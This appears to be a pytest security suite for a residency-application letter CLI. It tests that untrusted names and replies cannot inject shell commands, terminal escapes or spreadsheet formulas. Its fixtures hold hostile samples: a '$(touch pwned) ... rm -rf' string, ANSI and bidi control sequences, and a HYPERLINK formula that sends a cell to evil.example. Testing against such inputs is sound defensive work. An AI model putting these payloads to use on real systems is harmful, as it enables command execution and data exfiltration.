"""Strangers' texts in sheets, file names and replies are shown, but have no effect."""

import ast
import csv
import io
import json
import os
import re
import sys
import unicodedata
from itertools import dropwhile

import pexpect
import pytest

from tests.builders import surname
from tests.desk import HEADER
from tests.fakes import ScriptedServer

EVIL = "Elm $(touch pwned) Hospital; rm -rf {}"
WORDS = re.compile(r"Elm|touch|pwned|Hospital|rm -rf")
HINT = re.compile(r"^ *->.*(?:\n {5,}\S.*)*", re.MULTILINE)
BACKQUOTED = re.compile(r"`[^`]*`")


def rows(count=4, **fields):
    return [
        {
            "Program": EVIL.format(n),
            "Specialty": "IM",
            "Director": f"Ada {surname(n)}",
            "PD Email": f"pd{n}@elm{n}.example",
            "Status": "interviewed",
            **fields,
        }
        for n in range(1, count + 1)
    ]


class Listening:
    """A desk that keeps everything that was said."""

    def __init__(self, desk):
        self.desk, self.said, self.hints = desk, [], []

    def type(self, *words):
        done = self.desk.type(*words)
        self.said += [done.out, done.lines]
        asked = self.desk.type(*words, "--json") if words[0] in READS else None
        if asked is not None and asked.out.startswith("{"):
            self.hints += hints_of(json.loads(asked.out))
        return done


READS = {"status", "doctor", "plan", "why", "preview", "db"}  # they change nothing


def hints_of(document):
    """Every hint and command in a JSON document."""
    if isinstance(document, dict):
        for key, value in document.items():
            yield from [value] if key in ("hint", "command") else hints_of(value)
    elif isinstance(document, list):
        for value in document:
            yield from hints_of(value)


def every_refusal(desk, port):
    """Type whatever gives a hint about a program or a letter, in one state after another."""
    desk.configure(port=port)
    told = Listening(desk)
    bad = {**rows(1)[0], "Specialty": "Basketry"}
    told.type("import", desk.sheet(*rows(), bad, header=[*HEADER, "Instituti$(x)on"]))
    told.type("import", "list.csv", "--on-error", "skip", "--rejects", "bad $(x).csv")
    told.type("draft")
    (desk.folder / "mine.txt").write_text(f"Dear,\n\n{EVIL.format(2)}. I promise to come.\n")
    told.type("edit", 3, "--body-file", "mine.txt")
    told.type("programs", "set", 1, "status=rejected")
    for words in (
        ["approve", 1],
        ["edit", 1, "--letter", "retake"],
        ["approve", "1-4"],
        ["approve", "3", "--unseen"],
        ["approve", "4", "--override", "9", "--because", "x"],
        ["programs", "set", 2, "acgme_id=1400521057"],
        ["programs", "set", 3, "acgme_id=1400521057"],
        ["programs", "set", 3, "status=nonsense"],
        ["programs", "show", "Elm"],
        ["why", "Elm"],
        ["why", 1],
        ["why", 99],
        ["plan"],
        ["status"],
        ["reasons"],
        ["draft", "--program", "Elm"],
        ["approve", "2,4", "--unseen"],
        ["edit", 4, "--letter", "score_pending"],
        ["edit", 4, "--letter", "score_posted"],
        ["programs", "set", 4, "director_last_name=Berg"],
        ["preview", "2,4"],
        ["outbox", "record", 2, "--on", "2026-10-19"],
        ["send", "--dry-run"],
        ["draft"],
        ["approve", "4", "--unseen"],
        ["send", "--yes"],
        ["outbox", "list"],
        ["outbox", "show", "1-4"],
        ["outbox", "retry", "1-4"],
        ["outbox", "resolve", 4, "--bounced"],
        ["outbox", "resolve", 4, "--bounced", "--yes"],
        ["outbox", "resolve", "1-3", "--delivered"],
        ["outbox", "export", "1-4", "--eml", "out"],
        ["outbox", "export", "--failed", "failed $(x).csv"],
        ["cancel", "1-4"],
        ["unapprove", "1-4"],
        ["leave-out", "1-4"],
        ["approve", "1-4"],
        ["leave-out", "--undo", "1-4"],
        ["edit", 4, "--subject", "x\x1b"],
        ["programs", "export", "list.csv"],
        ["doctor", "--offline"],
        ["db", "check"],
        ["status"],
        ["preview", "--format", "html", "-o", "page"],
    ):
        told.type(*words)
    return told


@pytest.mark.long
def test_no_hint_holds_a_name_from_a_sheet(desk):
    with ScriptedServer() as server:
        told = every_refusal(desk, server.port)
    said = "\n".join(told.said)
    found = [*HINT.findall(said), *BACKQUOTED.findall(said), *told.hints]
    assert len(found) > 40
    assert [hint for hint in found if WORDS.search(hint)] == []
    # A file is named by its user, and quoted.
    assert {q for hint in found for q in re.findall(r"'[^']*\$\([^']*'|\S*\$\(", hint)} == {
        "'bad $(x).csv'",
        "'failed $(x).csv'",
    }
    for command in ("planner why 1", "planner preview 3", "planner programs show 2"):
        assert any(command in hint for hint in found), command
    assert WORDS.search(said), "the names are shown, though"


def test_a_column_whose_name_a_shell_would_run_is_named_by_its_place(desk):
    desk.sheet(*rows(1), header=[*HEADER, "Instituti$(x)on"])
    said = " ".join(desk.good("import", "list.csv").out.split())
    place = f"column {len(HEADER) + 1}=institution"
    assert f'--map "{place}"' in said
    assert "$(x)on=" not in said
    assert "institution" in desk.good("import", "list.csv", "--map", place).out


def begins_no_command(part):
    return not (isinstance(part, ast.Constant) and "planner " in part.value)


def test_no_text_of_the_program_puts_a_name_into_a_command(root):
    """Whatever the state: where an f-string names a command, it holds numbers, never names."""
    names = {"program", "institution", "director_last_name"}
    found = [
        f"{path.name}:{node.lineno}"
        for path in sorted((root / "planner").rglob("*.py"))
        for node in ast.walk(ast.parse(path.read_text("utf-8")))
        if isinstance(node, ast.JoinedStr)
        for value in dropwhile(begins_no_command, node.values)
        if isinstance(value, ast.FormattedValue)
        and isinstance(value.value, ast.Attribute)
        and value.value.attr in names
    ]
    assert found == []


def test_a_number_names_a_program_before_any_name_does(desk):
    desk.good("import", desk.sheet({**rows(1)[0], "Program": "2"}, rows(2)[1]))
    assert desk.good("why", "2", "--json").json["program"] == EVIL.format(2)
    assert desk.good("why", "#2", "--json").json["program"] == EVIL.format(2)
    desk.good("programs", "set", "2", "city=Dayton")
    assert [p["city"] for p in desk.good("programs", "list", "--json").json["programs"]] == [
        "",
        "Dayton",
    ]


# What a terminal would obey or turn around, and what no reader sees.
HOSTILE = "Al\x1b[2J\x1b]0;own\x07\x9b31m\u202ecod\u2066e\u200br\U000e0041\xad\x85\x7f"
TYPED = """
import json, sys
from datetime import date
from planner import wiring
from planner.cli import run
from planner.rules.calendar import noon
wiring.now = lambda: noon(date(2026, 10, 20))
for words in json.loads(sys.argv[1]):
    run(words)
"""
OURS = re.compile(r"\x1b\[\d*m|\r?\n|\r\x1b\[K")


@pytest.fixture
def terminal(desk, root):
    """Types commands in a real terminal, one after another in one process."""
    started = []

    def opened(*commands):
        child = pexpect.spawn(
            sys.executable,
            ["-c", TYPED, json.dumps(commands)],
            cwd=str(desk.folder),
            timeout=30,
            dimensions=(1000, 200),
            env={
                **{
                    k: v for k, v in os.environ.items() if k not in ("COLUMNS", "LINES", "NO_COLOR")
                },
                "PYTHONPATH": str(root),
                "TERM": "xterm",
            },
        )
        child.logfile_read = io.BytesIO()
        started.append(child)
        return child

    yield opened
    for child in started:
        child.close(force=True)


def shown_by(child):
    """All that a terminal was sent until the end, without our own colors."""
    child.expect(pexpect.EOF)
    return OURS.sub("", child.logfile_read.getvalue().decode("utf-8", "strict"))


def bad(text):
    return sorted({ascii(c) for c in text if unicodedata.category(c) in ("Cc", "Cf", "Co", "Cs")})


def poison(desk):
    """Hostile words in every text that is stored, as if an older planner had let them in."""
    columns = ("program", "institution", "city", "director_last_name", "reason", "connection")
    quoted = HOSTILE.replace("'", "''")
    desk.sql(
        "UPDATE programs SET "
        + ", ".join(f"{column} = '{quoted} ' || id" for column in (*columns, "notes"))
        + f""", extra = '{json.dumps({HOSTILE: HOSTILE})}'"""
    )
    desk.sql(
        f"UPDATE letters SET subject = '{quoted}', body = '{quoted}' || '\n' || '{quoted}',"
        f" held_because = '{quoted}', last_reply = '{quoted}' WHERE id < 3"
    )


def test_nothing_of_a_stranger_reaches_a_terminal_raw(desk, terminal):
    desk.a_list(4)
    desk.good("draft")
    desk.good("approve", 4, "--unseen")
    poison(desk)
    (desk.folder / f"bad{HOSTILE.replace(chr(7), '')}.csv").write_text("x")
    name = f"n{HOSTILE}.csv"
    reads = [["programs", "list"], ["programs", "show", "1"], ["plan"], ["why", "1"], ["status"]]
    reads += [["preview"], ["preview", "1"], ["preview", "--matrix"], ["outbox", "list"]]
    reads += [["outbox", "show", "1", "2"], ["db", "check"], ["draft"], ["import", name]]
    reads += [["doctor", "--offline"], ["assess"], ["why", HOSTILE], ["--config", name, "plan"]]
    commands = [
        *reads,
        *([*words, "--json"] for words in reads),
        ["programs", "export", "-"],
        ["programs", "export", "out.csv"],
        ["programs", "export", name],
        ["approve", "1-3", "--unseen"],
        ["edit", "1", "--subject", HOSTILE],
        ["edit", "1", "--body-file", name],
        ["leave-out", "2"],
        ["outbox", "record", "3", "--on", "2026-10-19"],
        ["programs", "set", "1", f"city={HOSTILE}"],
        ["programs", "set", "1", HOSTILE],
        ["preview", "1", "-o", f"o{HOSTILE}"],
        ["preview", "1", "--format", "html", "-o", f"o{HOSTILE}"],
        ["send", "--dry-run"],
        [HOSTILE],
        ["plan", f"--{HOSTILE}"],
        ["plan", "--date", HOSTILE],
        ["import", next(p.name for p in desk.folder.glob("bad*")), "--dry-run"],
        ["import", "list.csv", "--map", f"{HOSTILE}=city"],
        ["import", "list.csv", "--specialty", HOSTILE],
    ]
    text = shown_by(terminal(*commands))
    assert bad(text) == []
    assert len(text) > 20_000
    assert r"Al\x1b[2J\x1b]0;own\x07\x9b31m\u202ecod\u2066e\u200br\U000e0041\xad\x85\x7f" in text


def test_review_and_reasons_show_nothing_raw_either(desk, terminal):
    desk.configure(s1='"pass"')
    desk.a_list(2, Status="applied")
    desk.good("draft")
    poison(desk)
    child = terminal(["review"], ["reasons"])
    for key in "wdaq":
        child.expect(r"\[\?\] ")
        child.send(key)
    child.expect("reason: ")
    child.sendline("q")
    text = shown_by(child)
    assert bad(text) == []
    assert r"Subject: Al\x1b[2J" in text
    assert r"of 2: letter 1, Al\x1b[2J" in text
    assert re.search(r"In the letter: .*Al\\x1b\[2J", text, re.DOTALL)


def test_the_page_and_the_files_of_a_preview_hold_nothing_hidden(desk):
    desk.a_list(3)
    desk.good("draft")
    poison(desk)
    desk.good("preview", "--format", "html", "-o", "out")
    desk.good("preview", "3", "-o", "out")
    for path in (desk.folder / "out").iterdir():
        assert bad(path.read_text().replace("\n", "")) == [], path


def test_json_says_the_same_with_nothing_raw_in_it(desk):
    desk.a_list(1)
    poison(desk)
    done = desk.good("programs", "list", "--json")
    assert bad(done.out.replace("\n", "")) == []
    assert done.json["programs"][0]["program"] == f"{HOSTILE} 1"


def test_a_name_cannot_color_itself(desk, monkeypatch):
    """Colors stand in a text as private characters that are others in each run."""
    from planner.cli import show

    monkeypatch.delenv("NO_COLOR", raising=False)
    marks = set(show.colored("error", "x")) - {"x"}
    assert all(unicodedata.category(mark) == "Co" for mark in marks)
    assert show.seen(f"{show.colored('error', 'no')}: \x1b[31mElm") == (
        "\x1b[31mno\x1b[0m: \\x1b[31mElm"
    )


FORMULA = '="x"&HYPERLINK("http://evil.example/?"&A1,"click")&""'


def live(path):
    """The cells of a file in which a spreadsheet would find a formula, at any separator."""
    text = path.read_text("utf-8-sig")
    return [
        cell
        for separator in ",;|\t"
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator)
        for cell in row
        if cell.lstrip(' \t\r\n\xa0"')[:1] in set("=+-@\uff1d\uff0b\uff0d\uff20")
    ]


def test_rejects_carry_no_live_formula_and_come_back_the_same(desk):
    rows = [
        {"Program": FORMULA, "ID": '="0400521057"', "=Evil()": "Good;=1+1", "Status": "x"},
        {"Program": "Oak", "ID": "\uff1d1", "=Evil()": "a\n-2+3|@x", "Status": "y"},
        {"Program": "Ash", "=Evil()": "#REF!"},
    ]
    header = ["Program", "ID", "Specialty", "=Evil()", "x;+City()", "Status"]
    desk.sheet(*[{"Specialty": "IM", "x;+City()": "+1", **row} for row in rows], header=header)
    words = ["--map", "ID=acgme_id", "--on-error", "skip", "--json", "--rejects"]
    first = desk.type("import", "list.csv", *words, "bad.csv").json
    assert first["rejected"] == 3
    assert live(desk.folder / "bad.csv") == []
    assert live(desk.folder / "list.csv") != []
    again = desk.type("import", "bad.csv", *words, "worse.csv").json
    told = [
        [(e["line"], e["column"], e["value"], e["code"]) for e in said["errors"]]
        for said in (first, again)
    ]
    assert told[0] == told[1]
    assert {column for _, column, _, _ in told[0]} == {"Status", "ID", "=Evil()"}
    bad, worse = (cells_of(desk.folder / name) for name in ("bad.csv", "worse.csv"))
    # The last column says where the row was, and is no cell of it.
    assert [row[:-1] for row in worse] == [row[:-1] for row in bad]


def cells_of(path):
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def test_exports_carry_no_live_formula_and_come_back_the_same(desk):
    row = {"Specialty": "IM", "PD Email": "pd@elm.example", "=Evil()": "+1;@SUM(1)"}
    texts = [FORMULA, "Good;=1+1", "a | @x", "\uff1d1", "'-1", ' "=1']
    rows = [{**row, "Program": f"Elm {n}", "Why": text} for n, text in enumerate(texts)]
    rows.append({**row, "Program": "=Oak;=1"})
    desk.good("import", desk.sheet(*rows, header=[*HEADER, "=Evil()"]))
    before = desk.good("programs", "list", "--json").json
    desk.good("programs", "export", "out.csv")
    piped = desk.good("programs", "export", "-").out
    (desk.folder / "piped.csv").write_text(piped)
    assert live(desk.folder / "out.csv") == live(desk.folder / "piped.csv") == []
    for name in ("out.csv", "piped.csv"):
        done = desk.good("import", name, "--force", "--json").json
        assert (done["new"], done["changed"], done["unchanged"]) == (0, 0, len(rows))
    assert desk.good("programs", "list", "--json").json == before


def test_what_a_server_said_is_no_formula_in_the_list_of_failures(desk):
    with ScriptedServer({"RCPT": "550 5.1.1 =HYPERLINK(1);=1+1"}) as server:
        desk.configure(port=server.port)
        desk.approved(1)
        desk.type("send", "--yes")
    desk.good("outbox", "export", "--failed", "failed.csv")
    assert "HYPERLINK" in (desk.folder / "failed.csv").read_text()
    assert live(desk.folder / "failed.csv") == []
